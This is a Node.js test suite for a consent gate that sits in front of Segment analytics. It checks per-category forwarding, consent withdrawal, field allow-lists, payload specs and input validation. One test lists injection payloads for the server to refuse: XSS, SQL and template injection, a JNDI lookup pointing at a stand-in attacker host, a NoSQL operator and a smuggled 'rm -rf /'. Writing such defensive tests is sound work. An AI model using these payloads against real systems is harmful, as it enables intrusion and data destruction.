// The consent gate end to end with Segment's own server library (@segment/analytics-node 3.1.0,
// unmodified, pointed at Kapsel): the real binary, real receipts recorded through the consent
// API, and loopback receivers that check each destination's published payload spec
// (gate-receivers.mjs). What is asserted is what left the server: the receivers' records and the
// decision trace of the admin API.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, test } from 'node:test';
import { Analytics } from '@segment/analytics-node';
import {
  CATEGORIES, SITE, WRITE_KEY, destinationsFor, expectedDecision, ingest, recordChoice, settled, sleep,
  startGate, trace, waitFor,
} from './gate-common.mjs';
import { DESTINATIONS, idempotencyKey } from './gate-receivers.mjs';

const FULL_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Safari/537.36';
let gate;

before(async () => {
  gate = await startGate({ gate: { first_retry_ms: 100, max_retry_seconds: 1 } });
});

after(async () => {
  await gate?.close();
});

/** analytics-node pointed at the test server (every event in one flush unless flushAt says otherwise). */
function client(options = {}) {
  return new Analytics({ writeKey: WRITE_KEY, host: gate.server.origin, flushAt: 100, flushInterval: 60_000, maxRetries: 2, ...options });
}

/** Calls analytics-node's `kind` with `params`; resolves with the messageId once Kapsel acknowledged it. */
function send(analytics, kind, params) {
  return new Promise((resolve, reject) => {
    analytics[kind](params, (error, ctx) => (error ? reject(error) : resolve(ctx.event.messageId)));
  });
}

/** Parameters of one message of `kind`, with the receipt in `context.kapsel.receipt` when given. */
function params(kind, n, receipt, extra = {}) {
  const context = { page: { url: `https://example.no/p/${n}`, title: `Page ${n}` }, ...(receipt ? { kapsel: { receipt } } : {}) };
  const ids = { userId: `user-${n}`, anonymousId: `anon-${n}`, context };
  switch (kind) {
    case 'track': return { ...ids, event: 'Order Completed', properties: { total: 10 + n, currency: 'NOK', order_id: `O-${n}` }, ...extra };
    case 'page': return { ...ids, name: 'Pricing', category: 'Docs', properties: { url: `https://example.no/p/${n}` }, ...extra };
    case 'screen': return { ...ids, name: 'Home', properties: { variant: 'b' }, ...extra };
    case 'identify': return { ...ids, traits: { plan: 'pro', email: `person-${n}@example.no` }, ...extra };
    case 'group': return { ...ids, groupId: `org-${n}`, traits: { name: 'Example AS' }, ...extra };
    default: throw new Error(kind);
  }
}

const KINDS = ['track', 'page', 'screen', 'identify', 'group'];

/** Every subset of the three categories. */
function combinations() {
  return Array.from({ length: 8 }, (_, bits) => CATEGORIES.filter((_, i) => bits & (1 << i)));
}

/** Asserts the receivers agree with the trace rows: forwarded ⇔ received; and nothing else arrived. */
function assertReceiversMatch(rows, { exact = true } = {}) {
  const forwarded = new Map(Object.keys(DESTINATIONS).map((id) => [id, 0]));
  for (const row of rows) {
    const has = gate.rx.has(row.destination, row.message_id);
    if (row.state === 'forwarded') {
      forwarded.set(row.destination, forwarded.get(row.destination) + 1);
      assert.ok(has, `${row.message_id} is forwarded to ${row.destination} in the trace but never arrived`);
    } else {
      assert.equal(has, false, `${row.message_id} is ${row.state} (${row.reason}) for ${row.destination} but arrived there`);
    }
  }
  if (exact) {
    for (const [id, n] of forwarded) assert.equal(gate.rx.state[id].events.size, n, `${id} received events the trace does not forward to it`);
  }
}

test('consent matrix: every combination of categories, and no consent at all, reaches exactly the destinations it allows', async () => {
  gate.rx.reset();
  const from = Date.now();
  const choices = await Promise.all(combinations().map(async (granted) => ({ granted, receipt: (await recordChoice(gate, { granted })).id })));
  const analytics = client();
  const pending = [];
  let n = 0;
  for (const { granted, receipt } of choices) {
    for (const kind of KINDS) {
      for (let i = 0; i < 2; i += 1) {
        n += 1;
        pending.push(send(analytics, kind, params(kind, n, receipt)).then((id) => ({ id, kind, granted, receipt })));
      }
    }
  }
  // Events with no consent information: no receipt, and analytics-node carries no cookie.
  for (const kind of KINDS) {
    for (let i = 0; i < 3; i += 1) {
      n += 1;
      pending.push(send(analytics, kind, params(kind, n, null)).then((id) => ({ id, kind, granted: null, receipt: null })));
    }
  }
  await analytics.closeAndFlush({ timeout: 20_000 });
  const sent = await Promise.all(pending);
  assert.equal(new Set(sent.map((s) => s.id)).size, sent.length);

  const pairs = new Set(sent.flatMap((s) => destinationsFor(s.kind).map((d) => `${s.id} ${d}`)));
  const rows = await settled(gate, { from, pairs });
  const all = await trace(gate, { from });
  assert.equal(all.length, pairs.size, 'one trace row per event and destination that takes its type, no more');

  const mistakes = [];
  for (const s of sent) {
    for (const destination of destinationsFor(s.kind)) {
      const row = rows.get(`${s.id} ${destination}`);
      const want = expectedDecision(destination, s.granted);
      if (row.state !== want.state || row.reason !== want.reason) {
        mistakes.push(`${s.kind} granted=${JSON.stringify(s.granted)} → ${destination}: ${row.state} ${row.reason}, expected ${want.state} ${want.reason}`);
      }
      assert.equal(row.receipt, s.receipt);
      assert.equal(row.type, s.kind);
      assert.equal(row.site, SITE);
    }
  }
  assert.deepEqual(mistakes, []);
  assertReceiversMatch(all);
  assert.deepEqual(gate.rx.problems(), [], 'every payload meets its destination\'s spec');

  // Zero leaks, counted from the receivers' side too: every event a destination holds was
  // granted every category that destination needs.
  const byKey = new Map(sent.flatMap((s) => Object.keys(DESTINATIONS).map((d) => [idempotencyKey(SITE, s.id, d), s])));
  for (const [id, spec] of Object.entries(DESTINATIONS)) {
    const needed = spec.categories.filter((c) => c !== 'necessary');
    for (const key of gate.rx.state[id].events.keys()) {
      const s = byKey.get(key);
      assert.ok(s, `${id} received an event nobody sent in this test`);
      assert.ok(needed.every((c) => (s.granted ?? []).includes(c)), `${id} received a ${s.kind} granted only ${JSON.stringify(s.granted)}`);
    }
  }
  // No consent: the warehouse (necessary) alone.
  for (const s of sent.filter((x) => x.granted === null)) {
    for (const id of Object.keys(DESTINATIONS)) assert.equal(gate.rx.has(id, s.id), id === 'warehouse', `no-consent ${s.kind} at ${id}`);
  }
  // The trace by receipt tells one visitor's story, with the reasons.
  const onlyAnalytics = choices.find((c) => c.granted.join() === 'analytics');
  const story = await trace(gate, { receipt: onlyAnalytics.receipt });
  assert.equal(story.length, sent.filter((s) => s.receipt === onlyAnalytics.receipt).reduce((k, s) => k + destinationsFor(s.kind).length, 0));
  assert.deepEqual([...new Set(story.map((r) => `${r.destination}:${r.state}:${r.reason}`))].sort(), [
    'adhook:blocked:category:marketing', 'ga4:forwarded:null', 'hook:forwarded:null', 'meta:blocked:category:marketing', 'warehouse:forwarded:null',
  ]);
  // GA4 hears the Consent Mode signals of the choice: ad_user_data/ad_personalization are
  // granted only with marketing (google-ads declares them).
  for (const s of sent.filter((x) => x.kind === 'track' && x.granted?.includes('analytics'))) {
    const body = gate.rx.event('ga4', s.id);
    const signal = s.granted.includes('marketing') ? 'GRANTED' : 'DENIED';
    assert.deepEqual(body.consent, { ad_user_data: signal, ad_personalization: signal }, JSON.stringify(s.granted));
  }
});

test('a withdrawal recorded mid-stream stops forwarding for that receipt; what was delivered stays delivered', async () => {
  gate.rx.reset();
  const from = Date.now();
  const choice = await recordChoice(gate, { action: 'accept_all' });
  const analytics = client({ flushAt: 1, flushInterval: 10 });
  const before = [];
  const afterwards = [];
  let n = 1000;
  let phase = before;
  let stop = false;
  // One stream of events, each its own request, until told to stop.
  const stream = (async () => {
    while (!stop) {
      n += 1;
      const list = phase;
      list.push(await send(analytics, 'track', params('track', n, choice.id)));
      await sleep(15);
    }
  })();
  await waitFor(async () => {
    const rows = await trace(gate, { receipt: choice.id });
    return rows.filter((r) => r.state === 'forwarded' && r.destination === 'hook').length >= 5;
  }, { what: 'the first events to be forwarded', timeoutMs: 20_000 });
  const deliveredBefore = (await trace(gate, { receipt: choice.id })).filter((r) => r.state === 'forwarded');
  const withdrawal = await recordChoice(gate, { action: 'withdraw', previous: choice });
  phase = afterwards; // every event sent from now on was sent after the withdrawal was recorded
  await waitFor(() => afterwards.length >= 15, { what: '15 events after the withdrawal', timeoutMs: 20_000 });
  stop = true;
  await stream;
  await analytics.closeAndFlush({ timeout: 10_000 });

  const pairs = new Set([...before, ...afterwards].flatMap((id) => destinationsFor('track').map((d) => `${id} ${d}`)));
  const rows = await settled(gate, { from, pairs });
  for (const id of afterwards) {
    for (const destination of destinationsFor('track')) {
      const row = rows.get(`${id} ${destination}`);
      const want = expectedDecision(destination, []);
      assert.equal(row.state, want.state, `${destination} after the withdrawal: ${JSON.stringify(row)}`);
      assert.equal(row.reason, want.reason);
      assert.equal(gate.rx.has(destination, id), destination === 'warehouse');
    }
  }
  // What was forwarded before stays forwarded (the trace is not rewritten) and was received.
  for (const earlier of deliveredBefore) {
    const row = rows.get(`${earlier.message_id} ${earlier.destination}`);
    assert.equal(row.state, 'forwarded');
    assert.equal(row.decided_at, earlier.decided_at);
    assert.ok(gate.rx.has(earlier.destination, earlier.message_id));
  }
  assertReceiversMatch([...rows.values()]);
  // The withdrawal is a record of its own, naming the receipt; events keep naming the old one.
  assert.notEqual(withdrawal.id, choice.id);
  assert.ok([...rows.values()].every((r) => r.receipt === choice.id));
  assert.deepEqual(gate.rx.problems(), []);
});

test('allow-lists: each destination gets only its fields; no full IP address or user agent leaves the server', async () => {
  gate.rx.reset();
  const from = Date.now();
  const receipt = (await recordChoice(gate, { action: 'accept_all' })).id;
  const analytics = client();
  const context = {
    kapsel: { receipt },
    ip: '198.51.100.77',
    userAgent: FULL_UA,
    userAgentData: { platform: 'Linux', brands: [{ brand: 'Chromium', version: '126' }] },
    page: { url: 'https://example.no/kasse', title: 'Kasse', referrer: 'https://search.example.no/' },
    traits: { email: ' Kari.Nordmann@Example.NO ', phone: '+47 22 33 44 55' },
    locale: 'nb-NO',
    campaign: { source: 'do-not-forward-campaign' },
    device: { id: 'do-not-forward-device' },
  };
  const [track, page, track6, identify] = await Promise.all([
    send(analytics, 'track', { userId: 'K-1', anonymousId: 'anon-allow', event: 'Order Completed', context,
      properties: { total: 120, currency: 'NOK', order_id: 'O-77', products: [{ product_id: 'p1', name: 'Lamp', price: 120, quantity: 1 }] } }),
    // The address of the request itself (127.0.0.1) when the event names none; an IPv6 one.
    send(analytics, 'page', { anonymousId: 'anon-allow', name: 'Kasse', properties: { url: 'https://example.no/kasse' },
      context: { kapsel: { receipt }, userAgent: FULL_UA, page: context.page } }),
    send(analytics, 'track', { anonymousId: 'anon-allow', event: 'Product Added', properties: { product_id: 'p2' },
      context: { kapsel: { receipt }, ip: '2001:db8:abcd:12::1', userAgent: FULL_UA } }),
    send(analytics, 'identify', { userId: 'K-1', anonymousId: 'anon-allow', traits: { email: 'kari@example.no', plan: 'pro' }, context }),
    analytics.closeAndFlush({ timeout: 20_000 }).then(() => null),
  ]);
  const pairs = new Set([[track, 'track'], [page, 'page'], [track6, 'track'], [identify, 'identify']]
    .flatMap(([id, kind]) => destinationsFor(kind).map((d) => `${id} ${d}`)));
  const rows = await settled(gate, { from, pairs });
  assert.ok([...rows.values()].every((r) => r.state === 'forwarded'), JSON.stringify([...rows.values()].filter((r) => r.state !== 'forwarded')));
  assert.deepEqual(gate.rx.problems(), []);

  const ENVELOPE = ['type', 'messageId', 'timestamp', 'event', 'name', 'category'];
  const keysWithin = (object, allowed, what) => {
    for (const key of Object.keys(object)) assert.ok(allowed.includes(key), `${what} carries ${key}`);
  };
  // hook: anonymousId, userId, properties, context.page, context.ip, context.userAgent.
  for (const id of [track, page, track6, identify]) {
    const m = gate.rx.event('hook', id);
    keysWithin(m, [...ENVELOPE, 'anonymousId', 'userId', 'properties', 'context'], 'hook message');
    keysWithin(m.context ?? {}, ['page', 'ip', 'userAgent'], 'hook context');
    assert.equal(m.traits, undefined);
  }
  assert.equal(gate.rx.event('hook', track).context.ip, '198.51.100.0/24');
  assert.equal(gate.rx.event('hook', page).context.ip, '127.0.0.0/24');
  assert.equal(gate.rx.event('hook', track6).context.ip, '2001:db8:abcd::/48');
  assert.equal(gate.rx.event('hook', track).context.userAgent, 'Chrome');
  assert.deepEqual(gate.rx.event('hook', track).properties.products[0].product_id, 'p1');
  // adhook: the envelope and properties, nothing that identifies anyone.
  const ad = gate.rx.event('adhook', track);
  keysWithin(ad, [...ENVELOPE, 'properties'], 'adhook message');
  assert.equal(ad.properties.order_id, 'O-77');
  // warehouse: anonymousId and properties.
  for (const id of [track, page, track6, identify]) {
    const m = gate.rx.event('warehouse', id);
    keysWithin(m, [...ENVELOPE, 'anonymousId', 'properties'], 'warehouse message');
    assert.equal(m.anonymousId, 'anon-allow');
  }
  // ga4: anonymousId (as client_id), properties, context.page; never userId.
  const purchase = gate.rx.event('ga4', track);
  assert.equal(purchase.client_id, 'anon-allow');
  assert.equal(purchase.user_id, undefined, 'GA4 is not allowed the userId');
  assert.equal(purchase.events[0].name, 'purchase');
  assert.deepEqual(purchase.events[0].params.value, 120);
  assert.equal(purchase.events[0].params.transaction_id, 'O-77');
  assert.equal(gate.rx.event('ga4', page).events[0].name, 'page_view');
  assert.equal(gate.rx.event('ga4', page).events[0].params.page_location, 'https://example.no/kasse');
  assert.equal(gate.rx.has('ga4', identify), false, 'GA4 takes no identify (and gets no trace row for it)');
  // meta: hashed customer information, the user-agent family, never an address.
  const meta = gate.rx.event('meta', track);
  const sha = (text) => createHash('sha256').update(text).digest('hex');
  assert.equal(meta.event_name, 'Purchase');
  assert.equal(meta.event_id, idempotencyKey(SITE, track, 'meta'));
  assert.equal(meta.event_source_url, 'https://example.no/kasse');
  assert.deepEqual(meta.user_data.em, [sha('kari.nordmann@example.no')]);
  assert.deepEqual(meta.user_data.ph, [sha('4722334455')]);
  assert.deepEqual(meta.user_data.external_id, [sha('K-1')]);
  assert.equal(meta.user_data.client_user_agent, 'Chrome');
  assert.equal(meta.user_data.client_ip_address, undefined);
  assert.equal(gate.rx.event('meta', track6).event_name, 'AddToCart');

  // Across every byte any destination received: no full address, no full user agent, no
  // client hints, nothing no allow-list names, no plain e-mail address outside the hook's
  // allow-listed fields (the hook is not allowed traits either).
  for (const { id, body, url } of gate.rx.bodies()) {
    for (const address of body.match(/\d{1,3}(?:\.\d{1,3}){3}(?:\/\d+)?/g) ?? []) {
      assert.match(address, /\.0\/24$/, `${id} ${url} got the address ${address}`);
    }
    assert.ok(!body.includes('2001:db8:abcd:12'), `${id} got the full IPv6 address`);
    assert.ok(!body.includes('Mozilla/') && !body.includes('AppleWebKit'), `${id} got a full user agent`);
    assert.ok(!body.includes('userAgentData') && !body.includes('brands'), `${id} got client hints`);
    assert.ok(!body.includes('do-not-forward'), `${id} got a field no allow-list names`);
    assert.ok(!/kari[.a-z]*@example\.no/i.test(body), `${id} got a plain e-mail address: ${body.slice(0, 300)}`);
    assert.ok(!body.includes('"locale"'), `${id} got context.locale`);
    assert.ok(!body.includes('"kapsel"'), `${id} got the receipt (context.kapsel)`);
  }
});

test('the destinations\' naming rules: awkward event names and many long properties still meet GA4\'s and Meta\'s specs', async () => {
  gate.rx.reset();
  const from = Date.now();
  const receipt = (await recordChoice(gate, { action: 'accept_all' })).id;
  const analytics = client();
  const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`Property Number ${i}!`, 'v'.repeat(150)]));
  const names = ['Newsletter Subscribed!', 'session start', '2fa enabled', 'Google Thing', 'firebase thing', `${'very long name '.repeat(6)}end`,
    'Ærlig talt – ÆØÅ', '___', 'error'];
  const sent = await Promise.all([
    ...names.map((event, i) => send(analytics, 'track', { anonymousId: `anon-n${i}`, event, properties: many, context: { kapsel: { receipt } } })),
    analytics.closeAndFlush({ timeout: 20_000 }).then(() => null),
  ]);
  const ids = sent.filter(Boolean);
  const pairs = new Set(ids.flatMap((id) => destinationsFor('track').map((d) => `${id} ${d}`)));
  const rows = await settled(gate, { from, pairs });
  assert.deepEqual([...rows.values()].filter((r) => r.state !== 'forwarded'), [], 'every event is forwarded (a receiver that refused one answered 400)');
  assert.deepEqual(gate.rx.problems(), []);
  const ga4 = ids.map((id) => gate.rx.event('ga4', id).events[0]);
  assert.deepEqual(ga4.slice(0, 4).map((e) => e.name), ['newsletter_subscribed', 'x_session_start', 'x_2fa_enabled', 'x_google_thing']);
  for (const e of ga4) assert.ok(Object.keys(e.params).length <= 25);
  assert.equal(gate.rx.event('meta', ids[0]).event_name, 'Newsletter Subscribed!');
});

test('hostile input: each refused with a 4xx problem (RFC 9457), and nothing is stored or forwarded', async (t) => {
  gate.rx.reset();
  const from = Date.now();
  let n = 0;
  const event = (extra = {}) => ({ type: 'track', event: 'Signed Up', anonymousId: 'anon-hostile', messageId: `hostile-${(n += 1)}`, ...extra });
  const nested = (depth) => {
    let inner = { leaf: 1 };
    for (let i = 0; i < depth; i += 1) inner = { a: inner };
    return inner;
  };
  const bigEvent = event({ properties: { blob: 'x'.repeat(33 * 1024) } });
  const cases = [
    ['malformed JSON', '/v1/track', '{"type":"track","event":', {}, 400],
    ['malformed JSON on a short path (text/plain, as analytics.js sends)', '/v1/t', '{nope', { 'content-type': 'text/plain' }, 400],
    ['a batch that is not an object', '/v1/batch', '[1,2,3]', {}, 400],
    ['a batch with trailing garbage', '/v1/batch', `${JSON.stringify({ batch: [event()] })}xyz`, {}, 400],
    ['a key given twice', '/v1/track', '{"type":"track","event":"E","anonymousId":"a","anonymousId":"b"}', {}, 400],
    ['an event over 32 KB', '/v1/track', bigEvent, {}, 422],
    ['an event over 32 KB inside a batch', '/v1/batch', { batch: [event(), bigEvent] }, {}, 422],
    ['a batch over 500 KB', '/v1/batch', { batch: Array.from({ length: 20 }, () => event({ properties: { blob: 'x'.repeat(30 * 1024) } })) }, {}, 413],
    ['a wrong write key (Basic)', '/v1/track', event(), { authorization: `Basic ${Buffer.from('wrong-write-key:').toString('base64')}` }, 401],
    ['a wrong write key (body writeKey)', '/v1/batch', { batch: [event()], writeKey: 'wrong-write-key' }, { authorization: '' }, 401],
    ['no write key at all', '/v1/batch', { batch: [event()] }, { authorization: '' }, 401],
    ['nesting 20 deep', '/v1/track', event({ properties: nested(20) }), {}, 422],
    ['nesting 100 000 deep', '/v1/batch', `{"batch":[${'['.repeat(100_000)}${']'.repeat(100_000)}]}`, {}, 400],
    ['markup in the event name', '/v1/track', event({ event: '<script>alert(1)</script>' }), {}, 422],
    ['SQL in the event name', '/v1/track', event({ event: "x'; DROP TABLE gate_events; --" }), {}, 422],
    ['a template in the event name', '/v1/track', event({ event: '{{7*7}}' }), {}, 422],
    ['a JNDI lookup in a value', '/v1/track', event({ properties: { v: '${jndi:ldap://attacker.test.invalid/a}' } }), {}, 422],
    ['markup in a value', '/v1/batch', { batch: [event(), event({ properties: { v: '<img src=x onerror=alert(1)>' } })] }, {}, 422],
    ['a control character in a value', '/v1/track', event({ properties: { v: 'a\u0000b' } }), {}, 422],
    ['a $-operator key', '/v1/track', event({ properties: { $where: 'sleep(1000)' } }), {}, 422],
    ['a dotted key', '/v1/track', event({ properties: { 'context.ip': '203.0.113.7' } }), {}, 422],
    ['quotes in a key', '/v1/track', event({ traits: { 'a"b\'c': 1 } }), {}, 422],
    ['markup in a page name', '/v1/page', { type: 'page', anonymousId: 'a', name: '"><svg onload=alert(1)>' }, {}, 422],
    ['a receipt that is no receipt id', '/v1/track', event({ context: { kapsel: { receipt: "' OR 1=1 --" } } }), {}, 422],
    ['the wrong type for the endpoint', '/v1/page', event(), {}, 422],
    ['a batch entry without a type', '/v1/batch', { batch: [{ event: 'E', anonymousId: 'a', messageId: 'hostile-notype' }] }, {}, 422],
    ['an unknown batch key', '/v1/batch', { batch: [event()], evil: true }, {}, 422],
    ['no userId nor anonymousId', '/v1/track', { type: 'track', event: 'E', messageId: 'hostile-anon' }, {}, 422],
    ['a timestamp that is no time', '/v1/track', event({ timestamp: 'yesterday; rm -rf /' }), {}, 422],
  ];
  for (const [name, path, body, headers, status] of cases) {
    await t.test(name, async () => {
      const answer = await ingest(gate, path, body, headers);
      assert.equal(answer.status, status, answer.text.slice(0, 300));
      assert.equal(answer.type, 'application/problem+json');
      assert.equal(answer.body.status, status);
      assert.equal(typeof answer.body.type, 'string');
      assert.equal(typeof answer.body.title, 'string');
      assert.equal(typeof answer.body.detail, 'string');
    });
  }
  await t.test('a 413 names Segment\'s limit, 500 KB = 512000 bytes', async () => {
    const big = { batch: Array.from({ length: 20 }, () => event({ properties: { blob: 'x'.repeat(30 * 1024) } })) };
    const answer = await ingest(gate, '/v1/batch', big);
    assert.equal(answer.status, 413);
    assert.match(answer.body.detail, /\b512000\b/, `the problem names the limit: ${answer.body.detail}`);
  });
  await t.test('the settings of a wrong write key: 401 problem', async () => {
    const response = await fetch(`${gate.server.origin}/v1/projects/wrong-write-key/settings`);
    assert.equal(response.status, 401);
    assert.equal(response.headers.get('content-type'), 'application/problem+json');
  });
  // Give the workers several rounds: nothing may have been queued.
  await sleep(1_500);
  assert.deepEqual(await trace(gate, { from }), [], 'nothing of a refused request is stored');
  assert.deepEqual(gate.rx.bodies(), [], 'no receiver heard anything');
});

test('at the limits: a 32 KB event and a batch just under 500 KB are accepted and delivered', async () => {
  gate.rx.reset();
  const from = Date.now();
  const at = (size, i) => {
    // With its timestamp, as every Segment library sends it (else ingest adds one, and the
    // message grows past what it was accepted at).
    const base = { type: 'track', event: 'Limit Reached', anonymousId: `anon-limit-${i}`, messageId: `limit-${from}-${i}`,
      timestamp: new Date().toISOString(), properties: { blob: '' } };
    base.properties.blob = 'y'.repeat(size - Buffer.byteLength(JSON.stringify(base)));
    assert.equal(Buffer.byteLength(JSON.stringify(base)), size);
    return base;
  };
  const single = await ingest(gate, '/v1/track', at(32 * 1024, 0));
  assert.equal(single.status, 200, single.text);
  const events = Array.from({ length: 16 }, (_, i) => at(31 * 1024, i + 1));
  const body = { batch: events };
  const size = Buffer.byteLength(JSON.stringify(body));
  assert.ok(size <= 500 * 1024, `${size}`);
  const batch = await ingest(gate, '/v1/batch', body);
  assert.equal(batch.status, 200, batch.text);
  const ids = [`limit-${from}-0`, ...events.map((e) => e.messageId)];
  const pairs = new Set(ids.flatMap((id) => destinationsFor('track').map((d) => `${id} ${d}`)));
  const rows = await settled(gate, { from, pairs });
  assert.deepEqual(gate.rx.problems(), [], 'each request the forward makes stays within Segment\'s 500 KB');
  for (const id of ids) assert.equal(rows.get(`${id} warehouse`).state, 'forwarded', JSON.stringify(rows.get(`${id} warehouse`)));
});

test('a userId-only identify (analytics-node\'s usual server call) reaches the warehouse as a message Segment accepts', async () => {
  gate.rx.reset();
  const from = Date.now();
  const analytics = client();
  const [identify, alias] = await Promise.all([
    send(analytics, 'identify', { userId: 'user-only', traits: { plan: 'pro' } }),
    send(analytics, 'alias', { userId: 'user-new', previousId: 'user-old' }),
    analytics.closeAndFlush({ timeout: 10_000 }).then(() => null),
  ]);
  const pairs = new Set([`${identify} warehouse`, `${alias} warehouse`]);
  const rows = await settled(gate, { from, pairs });
  assert.deepEqual(gate.rx.problems(), [], 'Segment requires a userId or an anonymousId on every message');
  assert.equal(rows.get(`${identify} warehouse`).state, 'forwarded');
  assert.equal(rows.get(`${alias} warehouse`).state, 'forwarded');
});

test('ingest answers analytics.js\'s settings and CORS for the demo site', async () => {
  const response = await fetch(`${gate.server.origin}/v1/projects/${WRITE_KEY}/settings`, { headers: { origin: 'http://localhost:5555' } });
  assert.equal(response.status, 200);
  assert.equal(response.headers.get('access-control-allow-origin'), 'http://localhost:5555');
  const settings = await response.json();
  assert.equal(settings.integrations['Segment.io'].apiKey, WRITE_KEY);
  assert.equal(settings.integrations['Segment.io'].apiHost, `127.0.0.1:${gate.server.port}/v1`);
  assert.equal(settings.metrics.sampleRate, 0);
  const preflight = await fetch(`${gate.server.origin}/v1/t`, {
    method: 'OPTIONS',
    headers: { origin: 'http://localhost:5555', 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization,x-retry-count' },
  });
  assert.ok(preflight.status < 300, `${preflight.status}`);
  assert.equal(preflight.headers.get('access-control-allow-origin'), 'http://localhost:5555');
  assert.match(preflight.headers.get('access-control-allow-headers') ?? '', /authorization/i);
  const foreign = await fetch(`${gate.server.origin}/v1/projects/${WRITE_KEY}/settings`, { headers: { origin: 'https://attacker.test.invalid' } });
  assert.equal(foreign.headers.get('access-control-allow-origin'), null, 'no CORS for a foreign origin');
  const metrics = await ingest(gate, '/v1/m', { series: [] }, { authorization: '' });
  assert.equal(metrics.status, 200);
});
